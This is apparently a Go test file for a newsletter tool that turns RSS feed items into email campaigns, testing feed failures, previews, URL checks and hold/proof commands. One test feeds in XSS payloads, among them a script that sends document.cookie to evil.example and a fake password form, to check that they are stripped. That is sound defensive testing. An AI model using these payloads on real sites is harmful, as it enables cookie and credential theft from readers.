package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"mime"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"newsletter/internal/testkit"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// blogFeed is a real HTTP server with an RSS feed the test edits.
type blogFeed struct {
	*httptest.Server
	mu     sync.Mutex
	items  []string // newest first
	status int
	body   string // replaces the feed when set (garbage)
	delay  time.Duration
}

func newBlogFeed(t *testing.T) *blogFeed {
	t.Helper()
	b := &blogFeed{}
	b.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b.mu.Lock()
		status, body, delay := b.status, b.body, b.delay
		doc := `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Blog</title><link>https://blog.example.org/</link>` +
			strings.Join(b.items, "\n") + `</channel></rss>`
		b.mu.Unlock()
		if delay > 0 {
			select {
			case <-time.After(delay):
			case <-r.Context().Done():
				return
			}
		}
		if status != 0 {
			http.Error(w, "kaputt", status)
			return
		}
		if body != "" {
			doc = body
		}
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, doc)
	}))
	t.Cleanup(b.Close)
	return b
}

// add puts a new item on top: number n, published n days after March 1.
func (b *blogFeed) add(n int, content string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	date := time.Date(2026, 3, 1, 7, 0, 0, 0, time.UTC).AddDate(0, 0, n).Format(time.RFC1123Z)
	b.items = append([]string{fmt.Sprintf(`<item><title>KNIEPUNKT %03d: Folge %d</title><link>https://blog.example.org/folge-%d</link><pubDate>%s</pubDate><content:encoded><![CDATA[%s]]></content:encoded></item>`,
		n, n, n, date, content)}, b.items...)
}

func (b *blogFeed) set(f func(*blogFeed)) {
	b.mu.Lock()
	defer b.mu.Unlock()
	f(b)
}

// newFeedFixture is a send fixture whose columns come from feedURL only.
func newFeedFixture(t *testing.T, subscribers int, feedURL string) (*sendFixture, map[string]string) {
	t.Helper()
	f := newSendFixture(t, subscribers)
	if err := os.Remove(filepath.Join(f.columns, "031-kolumne.txt")); err != nil {
		t.Fatal(err)
	}
	env := f.env()
	env["NEWSLETTER_FEED"] = feedURL
	return f, env
}

// runWith runs the program as `newsletter ARGS…` with the settings in env
// (NEWSLETTER_* variables; nil for none) and stdin, and returns what it
// wrote and its exit status: the one way these tests call run.
func runWith(env map[string]string, stdin string, args ...string) (stdout, stderr string, code int) {
	var out, errb bytes.Buffer
	code = run(context.Background(), append([]string{"newsletter"}, args...), func(k string) string { return env[k] },
		strings.NewReader(stdin), &out, &errb)
	return out.String(), errb.String(), code
}

// columnCounts counts the received messages per subject.
func columnCounts(t *testing.T, f *sendFixture) map[string]int {
	t.Helper()
	got := map[string]int{}
	for _, m := range f.srv.Messages() {
		msg := testkit.ParseMail(t, m.Data)
		subj, _ := new(mime.WordDecoder).DecodeHeader(msg.Header.Get("Subject"))
		got[subj]++
	}
	return got
}

func TestSendFromFeed(t *testing.T) {
	feed := newBlogFeed(t)
	feed.add(1, "<p>Eins.</p>")
	feed.add(2, "<p>Zwei.</p>")
	f, env := newFeedFixture(t, 3, feed.URL+"/feed.xml")

	out, errOut, code := runWith(env, "", "columns")
	if code != 0 {
		t.Fatalf("columns: %d\n%s%s", code, out, errOut)
	}
	if got := columnsRow(out, "001"); got != "001 Folge 1 2026-03-02 blog.example.org/folge-1 skipped" {
		t.Errorf("row 001: %q\n%s", got, out)
	}
	if got := columnsRow(out, "002"); got != "002 Folge 2 2026-03-03 blog.example.org/folge-2 new" {
		t.Errorf("row 002: %q\n%s", got, out)
	}
	if !strings.Contains(out, `Next: column 002 "KNIEPUNKT 002: Folge 2" goes out on the next run`) {
		t.Errorf("columns:\n%s", out)
	}

	// First run: only the newest item.
	if out, errOut, code := runWith(env, "", "send"); code != 0 {
		t.Fatalf("send: %d\n%s%s", code, out, errOut)
	}
	if got := fmt.Sprint(columnCounts(t, f)); got != "map[KNIEPUNKT 002: Folge 2:3]" {
		t.Fatalf("first run sent %s", got)
	}
	out, _, _ = runWith(env, "", "send")
	if !strings.Contains(out, "Nothing to send: the newest column, 002, already has its campaign") {
		t.Errorf("second send:\n%s", out)
	}

	// A failing feed changes nothing and says so, whatever the failure.
	feed.add(3, "<p>Drei.</p>")
	failures := []struct {
		name string
		set  func(*blogFeed)
		want string
	}{
		{"server error", func(b *blogFeed) { b.status = 500 }, "HTTP 500 Internal Server Error"},
		{"garbage", func(b *blogFeed) { b.body = "<html>Wartungsarbeiten</html>" }, "not an RSS or Atom feed"},
		{"oversize", func(b *blogFeed) {
			b.body = `<?xml version="1.0"?><rss version="2.0"><channel>` + strings.Repeat("<!-- x -->", 1<<20+1) + `</channel></rss>`
		}, "larger than the limit of 10 MB"},
	}
	for _, tt := range failures {
		t.Run(tt.name, func(t *testing.T) {
			feed.set(tt.set)
			defer feed.set(func(b *blogFeed) { b.status, b.body = 0, "" })
			out, errOut, code := runWith(env, "", "send")
			if code != 1 || !strings.Contains(errOut, "could not be read: "+tt.want) || !strings.Contains(errOut, "nothing new was sent") {
				t.Fatalf("send: %d\n%s%s", code, out, errOut)
			}
			if strings.Count(errOut, "newsletter: ") != 1 {
				t.Errorf("want one error line:\n%s", errOut)
			}
			out, errOut, code = runWith(env, "", "columns")
			if code != 0 || !strings.Contains(errOut, tt.want) || !strings.Contains(out, "Next: nothing new; feed http://") ||
				!strings.Contains(out, "feed item (feed not read)") {
				t.Errorf("columns: %d\n%s%s", code, out, errOut)
			}
			if got := fmt.Sprint(columnCounts(t, f)); got != "map[KNIEPUNKT 002: Folge 2:3]" {
				t.Fatalf("a failing feed sent %s", got)
			}
		})
	}

	// Back, with item 2 changed: only the new item goes out.
	feed.set(func(b *blogFeed) { b.items[1] = strings.Replace(b.items[1], "Zwei.", "Zwei, neu geschrieben.", 1) })
	if out, errOut, code := runWith(env, "", "send"); code != 0 {
		t.Fatalf("send: %d\n%s%s", code, out, errOut)
	}
	if got := fmt.Sprint(columnCounts(t, f)); got != "map[KNIEPUNKT 002: Folge 2:3 KNIEPUNKT 003: Folge 3:3]" {
		t.Fatalf("after a new item: %s", got)
	}
	if _, errOut, code := runWith(env, "", "send", "--column", "2"); code != 1 || !strings.Contains(errOut, "already sent") {
		t.Errorf("resend of 002: %d %s", code, errOut)
	}

	// An item that leaves the feed stays sent.
	feed.set(func(b *blogFeed) { b.items = b.items[:1] })
	out, _, _ = runWith(env, "", "columns")
	if !strings.Contains(out, "feed item (gone from the feed)") || !strings.Contains(out, "sent (3 sent, 0 failed)") {
		t.Errorf("columns after item 2 left the feed:\n%s", out)
	}
}

// columnsRow is the row of `newsletter columns` for number, its cells
// separated by single spaces.
func columnsRow(out, number string) string {
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, number+" ") {
			return strings.Join(strings.Fields(l), " ")
		}
	}
	return ""
}

// An item written to attack the readers arrives harmless in both parts.
func TestFeedItemIsMadeSafe(t *testing.T) {
	feed := newBlogFeed(t)
	feed.add(5, `<p>Lesen Sie <a href="javascript:alert(document.cookie)">hier</a> und <a href="https://blog.example.org/ok" onclick="steal()">dort</a>.</p>`+
		`<script>fetch("https://evil.example/?c="+document.cookie)</script>`+
		`<img src="https://blog.example.org/x.png" onerror="steal()" alt="Bild">`+
		`<iframe src="https://evil.example/frame">Rahmentext</iframe>`+
		`<style>body{display:none}</style><form action="https://evil.example/login"><input name="pw" value="Passwort"></form>`+
		`<p style="background:url(javascript:x)">Ende.</p>`)
	f, env := newFeedFixture(t, 1, feed.URL)
	if out, errOut, code := runWith(env, "", "send"); code != 0 {
		t.Fatalf("send: %d\n%s%s", code, out, errOut)
	}
	msgs := f.srv.Messages()
	if len(msgs) != 1 {
		t.Fatalf("%d messages", len(msgs))
	}
	rm := testkit.ReadMail(t, msgs[0].Data)
	text, html := rm.Text, rm.HTML
	for _, part := range []struct{ name, s string }{{"text", text}, {"HTML", html}} {
		low := strings.ToLower(part.s)
		for _, bad := range []string{"javascript:", "<script", "document.cookie", "onerror", "onclick", "steal(", "<iframe", "evil.example", "<form", "<input", "body{display", "rahmentext"} {
			if strings.Contains(low, bad) {
				t.Errorf("%s part contains %q:\n%s", part.name, bad, part.s)
			}
		}
	}
	for _, want := range []string{`<a href="https://blog.example.org/ok"`, `src="https://blog.example.org/x.png"`, "Ende."} {
		if !strings.Contains(html, want) {
			t.Errorf("HTML part lacks %q:\n%s", want, html)
		}
	}
	if !strings.Contains(text, "Lesen Sie hier und dort <https://blog.example.org/ok>.") || !strings.Contains(text, "Ende.") {
		t.Errorf("text part:\n%s", text)
	}
}

// A feed item renders as a file column does: the same templates, pinned
// by golden files (go test -update rewrites them).
func TestPreviewFeedItemGolden(t *testing.T) {
	f, env := newFeedFixture(t, 1, filepath.Join("testdata", "feed.xml"))
	_ = f
	env["NEWSLETTER_IMPRINT"] = "Kniepunkt Verlag, Musterstraße 1, 12345 Musterstadt"
	for _, part := range []struct{ flag, golden string }{{"--text", "feed-032.golden.txt"}, {"--html", "feed-032.golden.html"}} {
		out, errOut, code := runWith(env, "", "preview", "32", part.flag)
		if code != 0 {
			t.Fatalf("preview: %d %s", code, errOut)
		}
		path := filepath.Join("testdata", part.golden)
		if *update {
			if err := os.WriteFile(path, []byte(out), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatalf("%v (go test -update writes it)", err)
		}
		if out != string(want) {
			t.Errorf("%s differs (go test -update rewrites it); got:\n%s", path, out)
		}
	}
	out, _, code := runWith(env, "", "preview")
	if code != 0 || !strings.Contains(out, "File:    https://blog.example.org/2026/03/strom-frisst-zukunft/\nNumber:  032\n") {
		t.Errorf("preview of the newest:\n%s", out)
	}
	out, _, _ = runWith(env, "", "columns")
	if columnsRow(out, "031") != "031 Heiße KI-Luft 2026-03-16 blog.example.org/2026/03/heisse-ki-luft/ skipped" {
		t.Errorf("columns:\n%s", out)
	}
}

func TestFeedSetting(t *testing.T) {
	dir := t.TempDir()
	tests := []struct {
		name, value string
		code        int
		want        string
	}{
		{"ftp", "ftp://blog.example.org/feed", 2, "--feed: only http:// and https:// URLs, or a file"},
		{"no host", "https://", 2, "--feed: not a URL"},
		{"missing file", filepath.Join(dir, "nope.xml"), 1, "nope.xml is not a file"},
		{"folder", dir, 1, "is not a file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := map[string]string{"NEWSLETTER_COLUMNS": dir, "NEWSLETTER_DB": filepath.Join(dir, "n.db")}
			_, errOut, code := runWith(env, "", "columns", "--feed", tt.value)
			if code != tt.code || !strings.Contains(errOut, tt.want) {
				t.Fatalf("code %d, stderr %q", code, errOut)
			}
		})
	}
	_, errOut, _ := runWith(nil, "", "columns", "--feed", "https://user:geheim@/x")
	if strings.Contains(errOut, "geheim") {
		t.Errorf("the password shows: %s", errOut)
	}
	out, _, _ := runWith(nil, "", "serve", "--help")
	if !strings.Contains(out, "--feed") || !strings.Contains(out, "NEWSLETTER_FEED") {
		t.Errorf("serve --help lacks --feed:\n%s", out)
	}
}

// The author's safety net works for feed items too: `hold` finds the item
// in the feed, `send` leaves it alone, and `proof` (no number) proofs the
// feed item the next run would send.
func TestHoldAndProofOfFeedItem(t *testing.T) {
	f, env := newFeedFixture(t, 2, filepath.Join("testdata", "feed.xml"))
	out, errOut, code := runWith(env, "", "hold", "32")
	if code != 0 || !strings.HasPrefix(out, "Column 032 is held by admin at ") {
		t.Fatalf("hold 32: %d\n%s%s", code, out, errOut)
	}
	if _, errOut, code := runWith(env, "", "hold", "99"); code != 1 || !strings.Contains(errOut, "testdata/feed.xml") {
		t.Errorf("hold 99: %d %s", code, errOut)
	}
	if out, errOut, code := runWith(env, "", "send"); code != 0 || f.srv.Count() != 0 || !strings.Contains(out, "Column 032 is held") {
		t.Fatalf("send while held: %d, %d mails\n%s%s", code, f.srv.Count(), out, errOut)
	}
	if out, errOut, code := runWith(env, "", "release", "32"); code != 0 {
		t.Fatalf("release 32: %d\n%s%s", code, out, errOut)
	}
	env["NEWSLETTER_PROOF_TO"] = "autorin@example.org"
	out, errOut, code = runWith(env, "", "proof")
	if code != 0 || !strings.HasPrefix(out, "Proof of column 032 ") {
		t.Fatalf("proof: %d\n%s%s", code, out, errOut)
	}
	if got := f.srv.WaitMail(t, "autorin@example.org"); !strings.Contains(string(got.Data), "032") {
		t.Errorf("proof mail:\n%s", got.Data)
	}
}
